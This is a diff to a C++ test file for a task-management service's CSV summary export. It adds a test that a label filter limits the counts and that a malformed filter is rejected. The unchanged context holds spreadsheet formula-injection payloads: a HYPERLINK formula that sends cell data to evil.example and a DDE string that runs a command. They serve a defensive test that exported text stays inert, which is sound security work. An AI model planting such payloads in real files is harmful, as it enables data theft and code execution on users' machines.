@@ -195,6 +195,38 @@ TEST_F(ExportsTest, SummaryTableParsesBackToTheSummary) {
   EXPECT_EQ(rows[4][1], "2");
 }
 
+TEST_F(ExportsTest, SummaryOfOneLabelCountsItsTasksAloneAndSaysSo) {
+  for (const bool labelled : {true, false, false}) {
+    v1::CreateTaskRequest req;
+    req.mutable_task()->set_title("Nhiệm vụ");
+    req.mutable_task()->set_kind(v1::TASK_KIND_ONE_OFF);
+    req.mutable_task()->set_assigning_unit("units/H29");
+    if (labelled) req.mutable_task()->add_labels("trọng tâm");
+    *req.mutable_task()->mutable_deadline() = Day(2026, 3, 31);
+    v1::Assignment* lead = req.add_assignments();
+    lead->set_unit("units/H29.01");
+    lead->set_role(v1::ASSIGNMENT_ROLE_LEAD);
+    Must(client().CreateTask(req));
+  }
+  v1::ExportSummaryRequest req;
+  req.set_unit("units/H29");
+  req.set_filter(R"(label = "trọng tâm")");
+  std::string file;
+  ASSERT_THAT(client().ExportSummary(req, [&](const std::string& chunk) { file += chunk; }),
+              IsOk());
+  Table rows = ParseCsv(file);
+  ASSERT_THAT(rows, SizeIs(6));  // as-of line, filter line, header, own row, child, total
+  EXPECT_EQ(rows[1][0], R"(Chỉ các nhiệm vụ có label = "trọng tâm")");
+  EXPECT_EQ(rows[5][0], "Tổng cộng");
+  EXPECT_EQ(rows[5][1], "1");
+  // A filter GetSummary refuses is refused here, before any byte.
+  req.set_filter("label = ");
+  int chunks = 0;
+  EXPECT_EQ(client().ExportSummary(req, [&](const std::string&) { ++chunks; }).code(),
+            absl::StatusCode::kInvalidArgument);
+  EXPECT_EQ(chunks, 0);
+}
+
 TEST_F(ExportsTest, TextThatASpreadsheetWouldRunAsAFormulaComesOutAsText) {
   const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?d="&B3,"Bấm để xem"))";
   MakeUnit("H29.03", v1::UNIT_KIND_DEPARTMENT, "units/H29", "@SUM(1+1)*cmd|' /C calc'!A0");
